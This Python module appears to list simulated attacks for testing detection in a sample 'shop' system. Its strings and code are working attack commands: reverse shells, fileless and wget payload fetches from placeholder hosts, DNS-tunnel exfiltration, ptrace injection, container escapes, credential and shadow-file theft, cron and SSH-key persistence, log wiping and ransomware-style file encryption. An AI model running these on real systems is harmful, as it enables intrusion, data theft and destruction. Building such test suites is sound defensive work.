"""The attacks on the shop."""

from ...attacks import METADATA, OUTSIDE, Attack, itself, run


def python(code):
    return f"python3 -c '{code}'"


REVERSE = f"""
import socket, os, subprocess
s = socket.create_connection(("{OUTSIDE}", 4444))
for fd in (0, 1, 2): os.dup2(s.fileno(), fd)
subprocess.call(["sh", "-i"])"""
MEMFD = """
import os, urllib.request
fd = os.memfd_create("x")
os.write(fd, urllib.request.urlopen("http://203.0.113.66/tool").read())
os.execv(f"/proc/self/fd/{fd}", ["kworker"])"""
SCAN = """
import socket
for last in range(1, 13):
    for port in (21, 22, 23, 25, 53, 80, 443, 1883, 3306, 5432, 6379, 8080):
        s = socket.socket(); s.settimeout(0.02); s.connect_ex((f"172.31.77.{last}", port)); s.close()"""
INJECT = """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
at = int(open("/proc/1/maps").readline().split("-")[0], 16)
libc.ptrace(16, 1, None, None); os.waitpid(1, 0x40000000)
word = libc.ptrace(2, 1, at, None)
libc.ptrace(5, 1, at, word); libc.ptrace(17, 1, None, None)"""
STEAL = f"""
import socket
s = socket.create_connection(("{OUTSIDE}", 443)); s.sendall(open("/data/shop.db", "rb").read())"""
TUNNEL = """
import socket, os
for n in range(60):
    try: socket.getaddrinfo(os.urandom(24).hex() + f".{n}.evil.example", 80)
    except OSError: pass"""
# What the machine has is written back to it.
CORE_PATTERN = """mount -o remount,rw /proc/sys
cat /proc/sys/kernel/core_pattern >/tmp/was; cat /tmp/was >/proc/sys/kernel/core_pattern
mount -o remount,ro /proc/sys"""
RELEASE_AGENT = """mkdir /tmp/cg; mount -t cgroup -o memory cgroup /tmp/cg
cat /tmp/cg/release_agent >/tmp/was; cat /tmp/was >/tmp/cg/release_agent
umount /tmp/cg"""
OVERWRITE = f"""cp /usr/bin/redis-cli /tmp/.keep; wget -q -O /tmp/g http://{OUTSIDE}/tool
cat /tmp/g >/usr/bin/redis-cli; redis-cli; cat /tmp/.keep >/usr/bin/redis-cli"""
PACKAGE = r"""mkdir -p /tmp/p/DEBIAN
printf 'Package: tool\nVersion: 1\nArchitecture: all\nMaintainer: x\nDescription: x\n' > /tmp/p/DEBIAN/control
dpkg-deb -b /tmp/p /tmp/p.deb; dpkg -i /tmp/p.deb"""

ATTACKS = (
    run("web shell", "web", "id; uname -a; cat /etc/passwd; ls -la /www", worker=True),
    run("cryptominer talks to its pool", "broker", f"(echo '{{\"id\":1,\"method\":\"mining.subscribe\"}}'; sleep 2) | nc {OUTSIDE} 3333"),
    run("reverse shell with nc", "store", f"mkfifo /tmp/.p; sh -i </tmp/.p 2>&1 | nc {OUTSIDE} 4444 >/tmp/.p"),
    itself("path traversal: the server reads /etc/shadow", "web", "read", "/etc/shadow", objects=("/etc/shadow",), worker=True),
    run("reverse shell with the app's interpreter", "app", python(REVERSE)),
    Attack("stolen key: reads /etc/shadow over ssh", "bastion", "ssh", ("cat /etc/shadow",), starts=True),
    run("program downloaded to /tmp and run", "web", f"wget -q -O /tmp/.x http://{OUTSIDE}/tool; chmod +x /tmp/.x; /tmp/.x"),
    run("mount, remount and core_pattern", "worker", CORE_PATTERN),
    itself("request forgery: the proxy asks the metadata service", "proxy", "connect", METADATA, "80", objects=(METADATA,), worker=True),
    run("service secrets read", "app", "cat /run/secrets/shop; cat /proc/1/environ"),
    Attack("the store writes authorized_keys", "store", "store",
           (("CONFIG", "SET", "dir", "/root/.ssh"), ("CONFIG", "SET", "dbfilename", "authorized_keys"), ("SAVE",),
            ("CONFIG", "SET", "dir", "/data"), ("CONFIG", "SET", "dbfilename", "dump.rdb")), (r"/root/\.ssh",)),
    run("backdoor listens with nc", "names", "nc -l -p 31337 & sleep 2; kill $!"),
    run("program in memory only", "app", python(MEMFD)),
    run("cron entry made", "web", "echo '* * * * * /tmp/.x' >/var/spool/cron/crontabs/root"),
    run("setuid program made", "store", "cp /bin/busybox /tmp/.su; chmod 4755 /tmp/.su"),
    Attack("stolen key: authorized_keys extended over ssh", "bastion", "ssh", ("echo 'ssh-ed25519 AAAA evil' >> /root/.ssh/authorized_keys",),
           starts=True),
    run("scan of the neighbours' ports", "app", python(SCAN)),
    run("logs removed", "proxy", "rm -f /var/log/nginx/access.log; : >/var/log/nginx/error.log"),
    run("release_agent of a cgroup", "worker", RELEASE_AGENT),
    itself("backdoor listens in the service itself", "broker", "listen", "31338", objects=("31338",)),
    run("metadata service asked from a shell", "web", f"wget -q -O - http://{METADATA}/latest/meta-data/iam/security-credentials/", worker=True),
    run("code injected by ptrace", "app", python(INJECT)),
    itself("the store replicates to a stranger", "store", "connect", OUTSIDE, "443", objects=(OUTSIDE,)),
    run("namespaces: unshare and nsenter", "worker", "unshare -m sh -c 'mount -t tmpfs none /tmp'; nsenter -t 1 -m id"),
    itself("web shell put among the uploads", "web", "write", "/www/uploads/shell.php", "<?php system($_GET[0]);", objects=(r"shell\.php",)),
    run("package installed", "app", PACKAGE),
    run("kernel module loaded", "worker", "echo x >/tmp/rootkit.ko; insmod /tmp/rootkit.ko"),
    run("the database sent to a stranger by the app's interpreter", "app", python(STEAL)),
    itself("code made in the service's memory", "broker", "shellcode", objects=("memory", "mprotect", "shellcode")),
    run("keys packed with the job's own tar", "worker", "tar -cf /data/week.tar /etc/shadow /root/.ssh"),
    run("program of the image overwritten", "worker", OVERWRITE, ("redis-cli",), lasts=True),
    run("data exfiltrated by names", "app", python(TUNNEL)),
    run("job extended", "worker", f"echo 'wget -q -O - http://{OUTSIDE}/c2 >/dev/null' >>/jobs/hourly.sh",
        (r"/jobs/hourly\.sh", OUTSIDE), lasts=True),
    run("data encrypted and removed", "app", "for f in /data/uploads/*; do gzip -c $f >$f.locked; rm $f; done", (r"\.locked",)),
    Attack("new version of the broker calls home", "broker", "deploy", ("connect", OUTSIDE, "443"), (OUTSIDE,)),
    Attack("container of the attacker's mines", "rogue", "container",
           (f"sleep 1; (echo '{{\"method\":\"mining.subscribe\"}}'; sleep 1) | nc {OUTSIDE} 3333",), starts=True),
)
